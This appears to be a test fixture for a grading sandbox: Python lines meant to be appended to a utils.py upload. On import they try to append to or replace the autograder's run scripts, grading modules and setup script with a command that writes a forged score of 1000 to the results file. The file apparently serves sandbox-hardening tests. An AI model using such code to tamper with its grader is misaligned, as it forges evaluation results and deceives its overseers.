# ==== hostile addition to reference/utils.py (tests/grading/sandbox/corpus): the upload is that file + these lines ====
# ruff: noqa: E402
_GRADER_DIR = "__DECOY_DIR__"  # the test puts a folder made like /autograder here
if _GRADER_DIR.startswith("__"):
    _GRADER_DIR = "/autograder"

import os as _os

_PAYLOAD = "\necho '{\"score\": 1000}' > /autograder/results/results.json  # FORGED\n"
for _target in ("run_autograder", "source/run_autograder", "source/grader/grading/grade.py", "source/grader/engine/results.py",
                "source/setup.sh", "sentinel.txt"):
    _path = f"{_GRADER_DIR}/{_target}"
    try:
        with open(_path, "a") as _handle:
            _handle.write(_PAYLOAD)
        print(f"WROTE: appended to {_path}")
    except OSError as _error:
        print(f"could not append to {_path}: {_error}")
    try:  # replacing the file instead needs write access to its folder
        with open(_path + ".new", "w") as _handle:
            _handle.write(_PAYLOAD)
        _os.replace(_path + ".new", _path)
        print(f"WROTE: replaced {_path}")
    except OSError as _error:
        print(f"could not replace {_path}: {_error}")
